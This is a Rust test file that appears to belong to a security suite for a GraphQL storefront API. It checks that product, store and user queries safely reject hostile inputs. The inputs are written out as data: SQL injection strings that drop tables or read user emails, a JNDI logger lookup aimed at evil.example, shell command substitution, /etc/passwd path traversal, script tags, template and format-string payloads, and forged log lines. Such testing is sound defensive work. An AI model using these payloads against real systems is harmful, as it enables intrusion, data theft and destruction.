//! Words that mean something elsewhere: to databases, shells, logs, terminals and browsers.

use serde_json::json;

use super::expected::{Expected, partly};
use super::{Attack, Target, attack, request, with};

pub fn attacks(target: &Target) -> Vec<Attack> {
    let by_slug = |name, slug: &str| {
        let query = "query ($slug: String!) { product(slug: $slug) { id } store(slug: $slug) { id } category(slug: $slug) { id } }";
        let nothing = json!({ "product": null, "store": null, "category": null });
        with(name, query, &json!({ "slug": slug }), Expected::Data(nothing))
    };
    let by_id = |name, id: &str| {
        with(name, "query ($id: ID!) { product(id: $id) { id } }", &json!({ "id": id }), partly("is not an id"))
    };
    let as_staff = |name, query: &str, variables: serde_json::Value, expected| {
        let body = json!({ "query": query, "variables": variables });
        attack(name, request::post(&body).header("x-storefront-staff-key", &target.staff_key), expected)
    };
    let create = "mutation ($slug: String!) { storeCreate(input: {slug: $slug, name: \"n\", currencyCode: EUR}) { store { id } userErrors { code } } }";
    let refused = || Expected::Data(json!({ "storeCreate": { "store": null, "userErrors": [{ "code": "INVALID" }] } }));
    let by_mail = "query ($email: String!) { user(email: $email) { id } }";
    let nobody = || Expected::Data(json!({ "user": null }));
    vec![
        by_slug("SQL that is always true", "' OR 1=1 --"),
        by_slug("SQL that is always true, in double quotes", "\" OR \"\"=\""),
        by_slug("SQL that drops a table", "'; DROP TABLE products; --"),
        by_slug("SQL that reads users", "x' UNION SELECT email FROM users --"),
        by_slug("SQL that sleeps", "'; SELECT pg_sleep(10); --"),
        by_slug("SQL in a comment", "*/ OR 1=1 /*"),
        by_slug("a backslash before a quote", "\\' OR 1=1 --"),
        by_slug("a parameter of a statement", "$1"),
        by_slug("a pattern that matches all", "%"),
        by_slug("a pattern that matches one letter", "_"),
        by_slug("a slug of 100 KB", &"x".repeat(100 * 1024)),
        by_slug("letters that look like others", "оаk-bооk"),
        by_slug("two spellings of one letter", "cafe\u{301}"),
        by_slug("a letter whose lower case is longer", "\u{130}"),
        by_slug("a text that runs the other way", "\u{202e}kao"),
        by_slug("escape sequences of a terminal", "\u{1b}[2J\u{1b}[31m"),
        by_slug("a line break and a forged line of the log", "x\n2026-01-01T00:00:00Z ERROR all is lost"),
        by_slug("a template", "{{7*7}}${7*7}#{7*7}"),
        by_slug("a look-up of a logger", "${jndi:ldap://evil.example/a}"),
        by_slug("a shell command", "$(touch /tmp/owned) `id` | id"),
        by_slug("a format of print", "%s%s%s%n"),
        by_slug("a script", "<script>alert(1)</script>"),
        by_slug("a path", "..%2f..%2fetc%2fpasswd"),
        by_id("SQL that is always true for an id", "' OR 1=1 --"),
        by_id("SQL that drops a table for an id", "'; DROP TABLE products; --"),
        by_id("a script for an id", "<script>alert(1)</script>"),
        as_staff(
            "SQL in the address of a user, as staff",
            by_mail,
            json!({ "email": "' OR 1=1 --@example.com" }),
            nobody(),
        ),
        as_staff(
            "a null byte in the address of a user, as staff",
            by_mail,
            json!({ "email": "a\u{0}@example.com" }),
            nobody(),
        ),
        as_staff(
            "a store whose slug is SQL, as staff",
            create,
            json!({ "slug": "'; DROP TABLE stores; --" }),
            refused(),
        ),
        as_staff("a store whose slug is a path, as staff", create, json!({ "slug": "../admin" }), refused()),
        as_staff("a store whose slug has a null byte, as staff", create, json!({ "slug": "a\u{0}b" }), refused()),
    ]
}
